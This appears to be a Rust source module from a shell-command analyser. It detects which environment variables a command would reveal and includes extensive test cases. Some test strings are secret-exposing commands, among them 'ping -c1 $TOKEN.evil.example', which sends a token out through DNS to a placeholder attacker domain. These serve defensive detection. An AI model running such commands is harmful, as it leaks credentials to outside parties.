//! Variables of the environment whose values a run shows: `printenv`, `echo $TOKEN`, `python -c 'print(os.environ)'`.

use super::reading::Reading;
use super::sink::Sink;
use crate::options::Given;
use crate::run::Run;
use crate::variables::{is_name, leading_name, variables_in};
use crate::word::Word;

mod code;
mod pipes;

use code::{in_code, in_filter};
pub(crate) use pipes::behind_pipes;

/// Programs that write their words, or tell them to others.
const ECHO: &[&str] = &[
    "echo",
    "printf",
    "print",
    "basename",
    "dirname",
    "expr",
    "seq",
    "date",
    "yes",
    "figlet",
    "toilet",
    "banner",
    "cowsay",
    "logger",
    "wall",
    "notify-send",
    "ping",
    "nslookup",
    "dig",
    "host",
    "awk",
    "gawk",
    "mawk",
    "tr",
];

/// Programs that write what they read, or a part of it.
const PASS: &[&str] = &[
    "dd", "openssl", "gzip", "bzip2", "xz", "zstd", "cat", "tee", "head", "tail", "sort", "uniq",
    "tr", "sed", "awk", "gawk", "mawk", "grep", "cut", "base64", "xxd", "od", "hexdump", "rev",
    "tac", "nl", "fold", "less", "more", "bat", "paste", "column", "strings",
];

/// What tells a program to show all variables: its words, with an option if one is needed.
const SHOW_ALL: &[(&str, &[&str], &[&str])] = &[
    ("make gmake", &[], &["p", "print-data-base"]),
    ("npm pnpm yarn", &["run", "env"], &[]),
    ("systemctl", &["show-environment"], &[]),
    ("tmux", &["show-environment"], &[]),
    ("tmux", &["showenv"], &[]),
    ("launchctl", &["export"], &[]),
    ("direnv", &["dump"], &[]),
    ("direnv", &["export"], &[]),
    ("mise", &["env"], &[]),
    ("php", &[], &["i", "info"]),
];

/// Adds the variables that a run shows.
pub(super) fn shown(reading: &Reading<'_>, sink: &mut Sink<'_>) {
    let run = sink.run;
    let Some(name) = run.name() else { return };
    match name.as_ref() {
        "printenv" if reading.operands().next().is_none() => sink.show_variable(None),
        "printenv" => {
            for word in reading.operands() {
                sink.show_variable(word.known().map(std::borrow::Cow::into_owned));
            }
        }
        // Nothing is left for it to run.
        "env" | "genv" if reading.operands().all(is_assignment) && !splits(reading) => {
            sink.show_variable(None);
        }
        "set" if run.args.is_empty() && !run.more_args => sink.show_variable(None),
        "export" | "declare" | "typeset" | "readonly" => listed(reading, sink),
        "envsubst" => substituted(reading, sink),
        "ps" if shows_environments(run) => sink.show_variable(None),
        "cmake" if run.args.iter().map_while(Word::known).eq(["-E", "environment"]) => {
            sink.show_variable(None)
        }
        "launchctl" if is_told(reading, &["getenv"]) => {
            for word in reading.operands().skip(1) {
                sink.show_variable(word.known().map(std::borrow::Cow::into_owned));
            }
        }
        "jq" | "gojq" | "jaq" | "yq" => {
            // `yq eval FILTER`
            let filters = reading.operands().take(if name == "yq" { 2 } else { 1 });
            filters.filter_map(Word::known).for_each(|code| in_filter(&code, sink));
        }
        name if shows_all(name, reading) => sink.show_variable(None),
        _ => {}
    }
    let is_written = ECHO.contains(&name.as_ref()) || (name == "sed" && !changes_files(reading));
    let words = run.args.iter().filter(|_| is_written);
    let text = run.document.iter().filter(|_| PASS.contains(&name.as_ref()));
    words.chain(text).flat_map(variables_in).for_each(|name| sink.show_variable(name));
    if let Some(code) = run.code.as_ref().and_then(Word::known) {
        let is_print =
            |word: &Word| matches!(word.known().as_deref(), Some("-p" | "-pe" | "--print"));
        let prints = run.args.iter().any(is_print);
        in_code(&code, prints, sink);
    }
}

/// `envsubst` puts the values of variables in the place of their names: in those that it is told, or in all of its text.
fn substituted(reading: &Reading<'_>, sink: &mut Sink<'_>) {
    let text = reading.operands().next().or(sink.run.document.as_ref());
    let text = text.and_then(Word::known).unwrap_or_default().into_owned();
    let names = text.split('$').skip(1).map(|rest| rest.strip_prefix('{').unwrap_or(rest));
    for name in names.map(leading_name).filter(|name| is_name(name)) {
        sink.show_variable(Some(name.to_owned()));
    }
}

/// `ps e` and `ps auxe` show the variables of other programs; `ps -e` shows all programs.
fn shows_environments(run: &Run) -> bool {
    let words: Vec<_> = run.args.iter().map(|word| word.known().unwrap_or_default()).collect();
    let is_option = |word: &str| word.starts_with('-');
    words.iter().enumerate().any(|(at, word)| {
        // What stands behind an option may be its value.
        let before = at.checked_sub(1).and_then(|at| words.get(at));
        let is_value = before.is_some_and(|before| is_option(before) || before.ends_with('o'));
        let are_letters = word.chars().all(|sign| sign.is_ascii_lowercase());
        word == "-E" || !is_value && are_letters && word.contains('e')
    })
}

fn shows_all(name: &str, reading: &Reading<'_>) -> bool {
    SHOW_ALL.iter().any(|(names, words, options)| {
        // Most rows ask for words.
        is_told(reading, words)
            && names.split(' ').any(|known| known == name)
            && (options.is_empty()
                || options.iter().any(|name| reading.options(name).next().is_some()))
    })
}

/// Whether the operands begin with these words.
fn is_told(reading: &Reading<'_>, words: &[&str]) -> bool {
    let mut operands = reading.words();
    words.iter().all(|word| operands.next().and_then(Word::known).as_deref() == Some(word))
}

/// Adds the folder that a variable names for what a program builds: it is written, or removed with all that is in it.
pub(super) fn build_folder(reading: &Reading<'_>, sink: &mut Sink<'_>) {
    let run = sink.run;
    if run.name().as_deref() != Some("cargo") {
        return;
    }
    let names = ["CARGO_TARGET_DIR", "CARGO_BUILD_TARGET_DIR"];
    let set = run.env.iter().rev().find(|(name, _)| names.contains(&name.as_str()));
    let Some((_, folder)) = set else { return };
    match reading.operands().next().and_then(Word::known).as_deref() {
        Some("clean") => sink.delete(folder, true),
        _ => sink.write(folder, true),
    }
}

/// `sed -i` writes into files.
fn changes_files(reading: &Reading<'_>) -> bool {
    ["i", "in-place"].iter().any(|name| reading.options(name).next().is_some())
}

/// `env -S 'A=1 make'`: the text is the command.
fn splits(reading: &Reading<'_>) -> bool {
    ["S", "split-string"].iter().any(|name| reading.options(name).next().is_some())
}

/// `export -p`, `declare -x`, and each of them alone.
fn listed(reading: &Reading<'_>, sink: &mut Sink<'_>) {
    let lists = |given: &Given<'_>| match given {
        Given::Option { name, .. } => matches!(name.as_ref(), "p" | "x"),
        _ => false,
    };
    let has_p = reading.options("p").next().is_some();
    if reading.operands().next().is_none() && reading.given.iter().all(lists) {
        sink.show_variable(None);
    }
    for word in reading.operands().filter(|word| has_p && !is_assignment(word)) {
        sink.show_variable(word.known().map(std::borrow::Cow::into_owned));
    }
}

fn is_assignment(word: &Word) -> bool {
    word.known_prefix().split_once('=').is_some_and(|(name, _)| is_name(name))
}

#[cfg(test)]
mod tests {
    use crate::effects::{Effects, Surroundings};

    fn told(text: &str) -> String {
        let around = Surroundings { cwd: Some("/w".into()), home: Some("/h".into()) };
        let effects = Effects::of_command(text, &around);
        let names = effects.shows_env.iter().map(|one| one.name.as_deref().unwrap_or("*"));
        names.collect::<Vec<_>>().join(" ")
    }

    #[test]
    fn variables_that_are_shown() {
        for (text, names) in [
            ("printenv", "*"),
            ("printenv A B", "A B"),
            ("env", "*"),
            ("env A=1", "*"),
            ("env -0 | sort", "*"),
            ("set", "*"),
            ("export -p", "*"),
            ("declare -px", "*"),
            ("export", "*"),
            ("echo $TOKEN", "TOKEN"),
            ("echo \"a ${TOKEN:0:4} b\"", "TOKEN"),
            ("printf %s \"$A$B\"", "A B"),
            ("echo ${!NAME}", "*"),
            ("v=TOKEN; echo ${!v}", "TOKEN"),
            ("for v in A B; do echo \"${!v}\"; done", "A B"),
            ("declare -n r=TOKEN; echo $r", "TOKEN"),
            ("f() { local -n r=TOKEN; echo \"$r\"; }; f", "TOKEN"),
            ("for t in $TOKEN; do echo $t; done", "TOKEN"),
            ("cat <<< \"$TOKEN\"", "TOKEN"),
            ("cat <<E\na $TOKEN\nE", "TOKEN"),
            ("envsubst <<< '$TOKEN ${A}'", "TOKEN A"),
            ("echo '$TOKEN' | envsubst", "TOKEN"),
            ("envsubst '$A' < x", "A"),
            ("declare -p TOKEN", "TOKEN"),
            ("X=$TOKEN printenv X", "TOKEN"),
            ("env X=a$TOKEN printenv X", "TOKEN"),
            ("X=$TOKEN python3 -c 'print(os.environ[\"X\"])'", "TOKEN"),
            ("awk -v t=$TOKEN 'BEGIN{print t}'", "TOKEN"),
            ("sed \"s/a/$TOKEN/\" x", "TOKEN"),
            ("basename \"$TOKEN\"", "TOKEN"),
            ("ping -c1 $TOKEN.evil.example", "TOKEN"),
            ("openssl base64 <<< $TOKEN", "TOKEN"),
            ("make -p", "*"),
            ("make -pn | grep TOKEN", "TOKEN"),
            ("npm run env", "*"),
            ("systemctl --user show-environment", "*"),
            ("tmux show-environment -g", "*"),
            ("launchctl getenv TOKEN", "TOKEN"),
            ("cmake -E environment", "*"),
            ("ps eww", "*"),
            ("ps auxe", "*"),
            ("ps -E", "*"),
            ("php -i", "*"),
            ("jq -n env", "*"),
            ("jq -n '$ENV.TOKEN'", "TOKEN"),
            ("jq '{a: env}' x", "*"),
            ("jq '[1, env, {}]' x", "*"),
            ("yq eval -n 'env(TOKEN)'", "TOKEN"),
            ("jq -n 'env[\"TOKEN\"]'", "TOKEN"),
            ("yq -n 'strenv(TOKEN)'", "TOKEN"),
            ("awk 'BEGIN{print ENVIRON[\"A\"]}'", "A"),
            ("awk 'BEGIN{for(k in ENVIRON) print k}'", "*"),
            ("python3 -c 'from os import environ; print(environ)'", "*"),
            ("node -pe process.env.A", "A"),
            ("node -p -e process.env.A", "A"),
            ("deno eval 'console.log(Deno.env.toObject())'", "*"),
            ("bun -e 'console.log(process.env)'", "*"),
            ("ruby -e 'p ENV'", "*"),
            ("php -r 'var_dump($_ENV);'", "*"),
            ("env | grep -i token", "TOKEN"),
            ("env | grep -v x", "*"),
            ("env | grep 'a.*b'", "*"),
            ("printenv | grep ^AWS_", "AWS_"),
            ("env | cut -d= -f1 | sort", ""),
            ("printenv | awk -F= '{print $1}'", ""),
            ("env | sed 's/=.*//'", ""),
            ("env | sort | grep -i ^path", "PATH"),
            ("env | wc -l", ""),
            ("env | grep -c TOKEN", ""),
            ("printenv | grep -qi 'a.*b'", ""),
            ("env | grep -o '^[^=]*'", ""),
            ("env | grep -o 'TOKEN=.*'", "*"),
            ("env | grep -c -f x", "*"),
            ("env | grep -c x - y", "*"),
            ("env | wc -l --files0-from=-", "*"),
            ("env | cut -d= -f2", "*"),
            ("f() { env; } >&2; f | cut -d= -f1", "*"),
            ("bash -c 'exec >&2; env' | cut -d= -f1", "*"),
            ("x=$(env >&2) | cut -d= -f1", "*"),
            // Programs of which the one does not read what the other writes.
            ("env; sed 's/=.*//'", "*"),
            ("env && cut -d= -f1 < x", "*"),
            ("env | cut -d= -f1 < x", "*"),
            ("env | cut -d= -f1 --complement", "*"),
            ("env | awk -F= -Fx '{print $1}'", "*"),
            ("env | sed -n 's/=.*//'", "*"),
            ("env | grep -A9 PATH", "*"),
            ("env | grep -9 PATH", "*"),
            ("env | grep --context=9 PATH", "*"),
            ("env | grep -z PATH", "*"),
            ("env | rg --passthru PATH", "*"),
            ("env | grep -e a PATH", "*"),
            ("echo $TOKEN | tee secret set", "TOKEN"),
            ("echo $TOKEN | git hash-object --stdin", "TOKEN"),
            ("env >&2 | cut -d= -f1", "*"),
            ("env 2>/dev/null", "*"),
            ("printenv A 2>/dev/null", "A"),
            ("env > /dev/null >&2", "*"),
            ("env < /dev/null", "*"),
            ("env <> /dev/null", "*"),
            ("env > /dev/stdout > /dev/null", "*"),
            ("env > /dev/null | cat", "*"),
            ("{ env; } >&2 | cut -d= -f1", "*"),
            ("env | sort -o x | cut -d= -f1", "*"),
            ("env | tee /dev/stderr | cut -d= -f1", "*"),
            ("echo $TOKEN; docker login --password-stdin", "TOKEN"),
            ("echo $TOKEN & gh secret set A", "TOKEN"),
            ("env | cut -d= -f1 x", "*"),
            ("env | awk -F= '{print $2}'", "*"),
            ("sudo env", "*"),
            ("bash -c 'echo $TOKEN'", "TOKEN"),
            ("python3 -c 'import os; print(os.environ)'", "*"),
            ("python3 -c 'print(os.environ[\"A\"])'", "A"),
            ("node -e 'console.log(process.env.A)'", "A"),
            ("node -p process.env.A", "A"),
            ("node -e 'console.log(process.env)'", "*"),
            ("ruby -e 'puts ENV[\"A\"]'", "A"),
        ] {
            assert_eq!(told(text), names, "{text}");
        }
    }

    #[test]
    fn variables_that_are_not() {
        for text in [
            "env A=1 make",
            "env -u A make",
            "env -S 'A=1 make'",
            "set -e",
            "set -- a b",
            "export A=1",
            "declare -x A=1",
            "A=1; echo $A",
            "echo ${#TOKEN}",
            "echo ${TOKEN:+set}",
            "curl -H \"X: $TOKEN\" https://a.com",
            "test -n \"$TOKEN\"",
            "echo '$TOKEN'",
            "printenv A > /dev/null",
            "echo $TOKEN | docker login -u me --password-stdin",
            "env | sort | cut -d= -f1 | head",
            "env | sort > /dev/null",
            "env &> /dev/null",
            "printenv A >/dev/null 2>&1",
            "env 2>&1 | cut -d= -f1",
            "echo $TOKEN 2>/dev/null | docker login --password-stdin >/dev/null 2>&1",
            "echo $TOKEN | gh auth login --with-token",
            "echo \"$TOKEN\" | gh secret set A",
            "python3 -c 'os.environ[\"A\"] = \"1\"'",
            "X=1 printenv X",
            "sed -i \"s/a/$TOKEN/\" x",
            "npm publish --token $TOKEN",
            "sleep 9 & echo $!",
            "echo ${!AWS_*}",
            "echo ${!list[@]}",
            "for f in $FILES; do wc -l $f; done",
            "docker login --password-stdin <<< \"$TOKEN\"",
            "cat <<'E'\n$TOKEN\nE",
            "envsubst < x",
            "envsubst '$A' < x > /dev/null",
            "make -j4 test",
            "npm run build",
            "ps aux",
            "ps -ef",
            "ps -eo pid,cmd",
            "ps -p 1 -o etime",
            "tmux ls",
            "jq .env x.json",
            "jq '{env: .a}' x.json",
            "jq '.[\"env\"]' x.json",
            "jq -r '.environment' x.json",
            "jq '{name, env}' x.json",
            "jq '{env, name}' x.json",
            "jq 'select(.key == \"env\")' x.json",
            "jq . env",
            "ps axo pid,command",
            "ps axo time",
            "ps -C node",
            "awk '{print $1}' x",
            "ssh host env",
            "docker run x env",
            "python3 -c 'print(environment)'",
        ] {
            assert_eq!(told(text), "", "{text}");
        }
    }
}
